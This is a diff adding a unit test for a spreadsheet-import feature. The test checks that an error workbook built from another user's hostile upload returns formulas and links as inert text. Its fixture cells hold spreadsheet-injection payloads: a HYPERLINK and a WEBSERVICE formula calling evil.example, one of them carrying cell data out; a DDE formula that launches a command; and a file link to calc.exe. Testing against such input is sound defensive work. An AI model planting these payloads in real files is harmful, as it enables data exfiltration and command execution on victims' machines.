@@ -52,3 +52,46 @@ describe('the error workbook', () => {
     ]);
   });
 });
+
+/**
+ * Another user's upload comes back to whoever downloads its errors from the import history (ADR 0062, amended): its
+ * formulas and links must not run or open there, and rich text that starts like a formula is text like any other.
+ */
+describe('the error workbook of a hostile upload', () => {
+  it('gives formulas back as the results the import read (as text without one), links as their text', async () => {
+    const wb = new ExcelJS.Workbook();
+    const ws = wb.addWorksheet('Electricity');
+    ws.getCell('A1').value = { formula: 'HYPERLINK("http://evil.example/?"&B1,"Open")', result: 'Open' };
+    ws.getCell('A2').value = { formula: "cmd|' /C calc'!A0", result: 12.5 };
+    ws.getCell('A3').value = { formula: 'WEBSERVICE("http://evil.example/")' } as ExcelJS.CellFormulaValue;
+    ws.getCell('A4').value = { formula: 'B1*2', result: 4, shareType: 'shared', ref: 'A4:A5' } as ExcelJS.CellValue;
+    ws.getCell('A5').value = { sharedFormula: 'A4', result: 6 } as ExcelJS.CellValue;
+    ws.getCell('A6').value = { text: 'Read me', hyperlink: 'file:///c:/windows/system32/calc.exe' };
+    ws.getCell('A7').value = { richText: [{ text: '=HYPERLINK("http://x",' }, { text: '"y")', font: { bold: true } }] };
+    ws.getCell('A8').value = { formula: '"=1+"&"1"', result: '=1+1' };
+    ws.getCell('B1').value = 2;
+    const bytes = new Uint8Array(await wb.xlsx.writeBuffer());
+
+    const out = new ExcelJS.Workbook();
+    await out.xlsx.load(
+      (await annotate(bytes, [{ cell: 'Electricity!A3', message: 'Wrong' }] as never)) as unknown as ExcelJS.Buffer,
+    );
+    const sheet = out.getWorksheet('Electricity')!;
+    const cell = (ref: string) => sheet.getCell(ref);
+    expect(['A1', 'A2', 'A4', 'A5', 'A6', 'A8'].map((r) => cell(r).value)).toEqual([
+      'Open',
+      12.5,
+      4,
+      6,
+      'Read me',
+      '=1+1',
+    ]);
+    expect(cell('A3').value).toBe('=WEBSERVICE("http://evil.example/")');
+    let formulas = 0;
+    sheet.eachRow((row) => row.eachCell((c) => (formulas += c.formula || c.hyperlink ? 1 : 0)));
+    expect(formulas).toBe(0);
+    // Texts that start like a formula — a result, a formula without one, rich text — are marked as text.
+    expect(['A3', 'A7', 'A8'].map((r) => cell(r).numFmt)).toEqual(['@', '@', '@']);
+    expect(cell('A3').note).toBe('Wrong');
+  });
+});
